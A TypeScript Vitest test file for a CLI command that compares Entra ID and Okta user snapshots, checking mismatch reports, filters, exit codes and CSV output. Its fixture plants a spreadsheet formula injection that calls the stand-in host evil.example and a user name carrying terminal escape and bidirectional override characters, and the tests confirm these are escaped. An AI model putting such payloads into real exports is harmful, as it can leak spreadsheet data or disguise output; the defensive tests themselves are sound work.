import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { CliError, type CliIo } from '../../../src/cli/command'
import { compareCommand } from '../../../src/cli/commands/compare'
import { obj, seamSnapshot } from '../../fixtures/snapshots/seam-snapshot'

const dir = mkdtempSync(join(tmpdir(), 'crosswalk-compare-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

const broken = seamSnapshot((s) => {
  // bob's Okta email differs; carol has no Okta account; a hostile display name and UPN
  obj(s.okta?.users?.[1], 'profile')['email'] = 'robert@contoso.com'
  s.okta!.users = s.okta!.users!.filter((u) => u['id'] !== '00ucarol')
  s.okta!.appUsers!['0oaO365'] = s.okta!.appUsers!['0oaO365']!.filter((u) => u['id'] !== '00ucarol')
  obj(s.entra?.users?.[1])['displayName'] = '=HYPERLINK("https://evil.example/?"&A1)'
  obj(s.entra?.users?.[2])['userPrincipalName'] = 'carol\x1b[2J\u202e@contoso.com'
})
writeFileSync(join(dir, 'broken.json'), JSON.stringify(broken))
writeFileSync(join(dir, 'healthy.json'), JSON.stringify(seamSnapshot()))

function io() {
  const out: string[] = []
  const err: string[] = []
  const value: CliIo = {
    stdout: (t) => out.push(t),
    stderr: (t) => err.push(t),
    env: {},
    cwd: dir,
    isTty: false,
  }
  return { io: value, out: () => out.join(''), err: () => err.join('') }
}

async function run(...args: string[]) {
  const t = io()
  const code = await compareCommand.run(args, t.io)
  return { code, out: t.out(), err: t.err() }
}

describe('crosswalk compare', () => {
  it('prints every person with the differences, then each pair under its mapping', async () => {
    const { code, out } = await run('broken.json')
    expect(code).toBe(0)
    expect(out).toMatch(/^STATUS\s+KEY\s+CLASS\s+ENTRA\s+OKTA\s+DIFFERENCES/)
    expect(out).toContain('mail ↔ email: "bob@contoso.com" ≠ "robert@contoso.com"')
    expect(out).toContain('Entra only')
    expect(out).toContain('email ← appuser.email (IdP Microsoft Entra ID)')
    expect(out).toContain('3 people: 2 matched, 1 entra-only')
    // the hostile UPN is shown escaped, never raw
    expect(out).toContain('carol\\x1b[2J\\u202e@contoso.com')
    expect(out).not.toContain('\x1b')
    expect(out).not.toContain('\u202e')
  })

  it('selects mismatched, unmatched and ambiguous people', async () => {
    const mismatched = await run('broken.json', '--only', 'mismatched', '--format', 'json')
    const rows = (
      JSON.parse(mismatched.out) as { rows: { entra: { userPrincipalName: string } }[] }
    ).rows
    expect(rows.map((r) => r.entra.userPrincipalName)).toEqual(['bob@contoso.com'])
    const unmatched = await run('broken.json', '--only=unmatched', '--format', 'json')
    const parsed = JSON.parse(unmatched.out) as { rows: { status: string; cells: unknown[] }[] }
    expect(parsed.rows.map((r) => r.status)).toEqual(['entra-only'])
    const ambiguous = await run('broken.json', '--only', 'ambiguous')
    expect(ambiguous.out).toContain('No people match.')
  })

  it('limits the pairs to --attributes, by Entra or Okta name', async () => {
    const json = await run('broken.json', '--attributes', 'givenName,login', '--format', 'json')
    const pairs = (JSON.parse(json.out) as { pairs: { label: string }[] }).pairs
    expect(pairs.map((p) => p.label)).toEqual([
      'userPrincipalName ↔ login',
      'givenName ↔ firstName',
    ])
    // bob differs only on mail: not a mismatch when mail is not compared
    const only = await run('broken.json', '--attributes', 'givenName', '--only', 'mismatched')
    expect(only.out).toContain('No people match.')
  })

  it('exits 1 with --fail-on-mismatch only when the selection is not clean', async () => {
    expect((await run('broken.json', '--fail-on-mismatch')).code).toBe(1)
    expect((await run('broken.json', '--only', 'ambiguous', '--fail-on-mismatch')).code).toBe(0)
    expect((await run('healthy.json', '--fail-on-mismatch')).code).toBe(0)
    expect((await run('broken.json', '--class', 'guest', '--fail-on-mismatch')).code).toBe(0)
  })

  it('writes CSV a spreadsheet reads as data', async () => {
    const { out } = await run('broken.json', '--format', 'csv')
    const lines = out.split('\r\n')
    expect(lines[0]).toMatch(/^Name,Status,Key,Class,Entra userPrincipalName,Okta login,/)
    expect(out).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`)
    expect(out).not.toContain('\x1b')
    expect(out).not.toContain('\u202e')
    expect(lines).toHaveLength(5) // header, three people, the empty string after the last CRLF
  })

  it('refuses bad input with a clear message (exit 2)', async () => {
    await expect(run('broken.json', '--attributes', 'shoeSize')).rejects.toThrow(
      /No compared attribute is named "shoeSize"/,
    )
    await expect(run('broken.json', '--only', 'everything')).rejects.toThrow(CliError)
    await expect(run('broken.json', '--class', 'robot')).rejects.toThrow(/Unknown class robot/)
    await expect(run()).rejects.toThrow(/Name the snapshot file/)
    await expect(run('missing.json')).rejects.toThrow(/missing\.json/)
    const error = await run('broken.json', '--format', 'xml').catch((e: unknown) => e)
    expect(error).toBeInstanceOf(CliError)
    expect((error as CliError).exitCode).toBe(2)
  })
})
